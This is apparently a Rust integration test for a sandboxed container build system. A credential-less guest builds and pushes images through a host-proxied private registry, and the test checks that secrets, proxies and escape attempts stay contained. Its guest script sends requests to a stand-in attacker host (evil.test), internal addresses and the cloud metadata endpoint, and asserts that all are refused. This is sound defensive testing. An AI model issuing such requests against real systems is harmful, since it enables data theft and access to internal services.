//! A build whose images come through the host, and go to it.

use std::time::Duration;

use anyhow::ensure;
use kiln_tests::{
    Stage, Story, stories,
    world::upstream::{NAME, image::Layout},
};
use tokio::time::sleep;

use super::guest::{Scene, manifests, said, setup};

/// The registry outside, and nothing else.
const POLICY: &str = "allow=registry.test:5443";
/// Takes a while to pull.
const LARGE: usize = 48 << 20;

pub(crate) fn stories() -> Vec<Story> {
    stories![
        a_guest_without_a_credential_builds_from_a_private_registry.limit(Duration::from_secs(900))
    ]
}

/// In order: a pull, a build from two private images that is pushed to the host, tries to get
/// something out, and a pull under which kilnd is killed and started again.
const SCRIPT: &str = r#"
engine
echo "engine: $SECONDS"
pull NAME/team/base 1 | tail -n 1
echo "base: $(has NAME/team/base:1)"
mkdir /context && cp /bin/busybox /context/ && cat >/context/Dockerfile <<'END'
FROM NAME/team/base:1
COPY --from=NAME/team/tool:1 /tool /tool
COPY busybox /bin/busybox
RUN ["/bin/busybox", "sh", "-c", "echo build-env-begins; /bin/busybox env; echo build-env-ends; if /bin/busybox test -e /run/kiln; then echo run-sees-kiln; fi; if /bin/busybox test -e /tool; then echo tool-is-there; fi"]
END
buildx build --progress=plain --network=none --provenance=false --metadata-file /tmp/built --push \
    -t "$KILN_REGISTRY/local/app:1" /context >/tmp/build.log 2>&1 || { cat /tmp/build.log; exit 71; }
sed -n 's/^#[0-9]* [0-9.]* //p' /tmp/build.log
echo "built: $(grep -o '"containerimage.digest": *"[^"]*"' /tmp/built | grep -o 'sha256:[0-9a-f]*')"
echo "pushed: $SECONDS"
echo "own-env: $(env | grep -c -i -e ssl_cert -e proxy)"
try() { echo "try $1: $(status "$2" "$3")"; }
try upload POST "/v2/team/base/blobs/uploads/?ns=NAME"
try put PUT "/v2/team/base/manifests/stolen?ns=NAME"
try other GET "/v2/c2vjcmv0/manifests/1?ns=c2vjcmv0.evil.test"
try inside GET "/v2/a/manifests/1?ns=10.1.2.3"
try metadata GET "/v2/latest/manifests/meta-data?ns=169.254.169.254:80"
try proxied GET "http://c2vjcmv0.evil.test/v2/a/manifests/1"
try dotted GET "/v2/c2vjcmv0.evil.test/a/manifests/1"
try own GET "/v2/a/manifests/1?ns=127.0.0.1:5443"
echo ready
read -r go
pull NAME/team/large 1 >/tmp/large.log & 
sleep 1
echo pulling
wait $!
tail -n 1 /tmp/large.log
echo "large: $(has NAME/team/large:1)"
"#;

async fn a_guest_without_a_credential_builds_from_a_private_registry(
    stage: &Stage,
) -> anyhow::Result<()> {
    let mut scene = Scene::set(stage).await?;
    let image = |name: &str, files: &[Vec<(&str, Vec<u8>)>]| {
        let layout = Layout::make(&stage.directory().join("images").join(name), files)?;
        scene.upstream.publish(&layout, &format!("team/{name}:1"))?;
        anyhow::Ok(layout.digest().to_owned())
    };
    let base = image("base", &[vec![("base", b"base\n".to_vec())]])?;
    image("tool", &[vec![("tool", b"tool\n".to_vec())]])?;
    let halves = [1, 2].map(|seed| vec![("noise", noise(LARGE / 2, seed))]);
    let large = image("large", &halves)?;
    image("secret", &[vec![("secret", b"secret\n".to_vec())]])?;

    let mut guest = scene.talk(POLICY, &SCRIPT.replace("NAME", NAME))?;
    let told = guest.said("ready\n").await?;
    assert_eq!(said(&told, "base")?, base, "{told}");
    // No build step hears of the authority or of the proxy, and the job neither.
    let (_, step) = told.split_once("build-env-begins").unwrap_or_default();
    let (step, after) = step.split_once("build-env-ends").unwrap_or_default();
    ensure!(step.contains("PATH="), "the step said nothing: {told}");
    for word in ["SSL_CERT", "proxy", "PROXY", "KILN"] {
        ensure!(!step.contains(word), "a build step sees {word}: {step}");
    }
    ensure!(!after.contains("run-sees-kiln") && after.contains("tool-is-there"), "{told}");
    assert_eq!(said(&told, "own-env")?, "0", "{told}");
    let tries: Vec<_> = told.lines().filter_map(|line| line.strip_prefix("try ")).collect();
    assert_eq!(tries.len(), 8, "{told}");
    for one in tries {
        let status: u16 = one.rsplit_once(": ").map_or("", |(_, status)| status).parse()?;
        ensure!((400..500).contains(&status), "{one}");
    }
    let asked = scene.world.zone().asked();
    ensure!(asked.iter().all(|asked| !asked.name.contains("evil")), "{asked:?}");

    // What the guest pushed is the local client's to pull, by the same digest.
    let built = said(&told, "built")?.to_owned();
    assert_eq!(pulled(&scene, stage, "local/app:1").await?, built);

    guest.feed(b"go\n").await?;
    guest.said("pulling\n").await?;
    scene.host.kill().await?;
    sleep(Duration::from_secs(2)).await;
    scene.host = setup(stage, &scene.upstream).start().await?;
    guest.close_stdin();
    let ended = guest.finish().await?;
    ensure!(ended.code == Some(0), "{ended}");
    assert_eq!(said(&ended.stdout_text(), "large")?, large, "{ended}");

    let record = scene.record().await?;
    for (repository, digest) in [("team/base", &base), ("team/large", &large)] {
        let found = manifests(&record, repository);
        ensure!(
            found.iter().any(|one| one["digest"] == **digest && one["registry"] == NAME),
            "{repository} is not among the materials: {record}"
        );
    }
    ensure!(!manifests(&record, "team/tool").is_empty(), "{record}");
    let refusals = record["registry"]["refusals"].as_array().map(Vec::len).unwrap_or_default();
    ensure!(refusals >= 3, "{record}");
    stored_content_is_there_without_a_network(&scene, &base).await?;
    scene.ends().await
}

/// Under `none`: what is stored and the tenant's to read, and nothing else.
async fn stored_content_is_there_without_a_network(
    scene: &Scene,
    base: &str,
) -> anyhow::Result<()> {
    scene.world.arrivals().forget();
    let script = format!(
        "echo \"digest: $(registry HEAD '/v2/team/base/manifests/1?ns={NAME}' |\n\
             tr -d '\\r' | sed -n 's/^[Dd]ocker-[Cc]ontent-[Dd]igest: //p')\"\n\
         echo \"stored: $(status GET '/v2/team/base/manifests/1?ns={NAME}')\"\n\
         echo \"secret: $(status GET '/v2/team/secret/manifests/1?ns={NAME}')\"\n\
         echo \"own: $(status GET /v2/local/app/manifests/1)\"\n"
    );
    let ended = scene.run("none", &script).await?;
    ensure!(ended.code == Some(0), "{ended}");
    let told = ended.stdout_text();
    assert_eq!(said(&told, "digest")?, base, "{ended}");
    assert_eq!((said(&told, "stored")?, said(&told, "own")?), ("200", "200"), "{ended}");
    ensure!(said(&told, "secret")?.starts_with('4'), "{ended}");
    let arrived = scene.world.arrivals().all();
    ensure!(arrived.is_empty(), "{arrived:?}");
    let record = scene.record().await?;
    let found = manifests(&record, "team/base");
    ensure!(found.iter().any(|one| one["origin"] == "stale"), "{record}");
    Ok(())
}

/// By a client of the host's, from where the host says that clients find it: its digest.
async fn pulled(scene: &Scene, stage: &Stage, reference: &str) -> anyhow::Result<String> {
    let shown = scene.host.kiln(["image", "registry"]).run().await?;
    ensure!(shown.code == Some(0), "{shown}");
    let address = shown.stdout_text().trim().to_owned();
    let namespace = stage.namespace().ok_or_else(|| anyhow::anyhow!("a registry takes root"))?;
    let from = format!("docker://{address}/{reference}");
    let into = format!("dir:{}", stage.directory().join("pulled").display());
    namespace.skopeo(&["copy", "--quiet", "--src-tls-verify=false", &from, &into])?;
    let inspect = ["inspect", "--tls-verify=false", "--format", "{{.Digest}}", &from];
    Ok(namespace.skopeo(&inspect)?.trim().to_owned())
}

/// What no layer gets smaller by, and always the same.
fn noise(bytes: usize, seed: u64) -> Vec<u8> {
    let mut state = seed;
    let mut next = || {
        state =
            state.wrapping_mul(6_364_136_223_846_793_005).wrapping_add(1_442_695_040_888_963_407);
        state.to_be_bytes()
    };
    std::iter::repeat_with(|| next()[0]).take(bytes).collect()
}
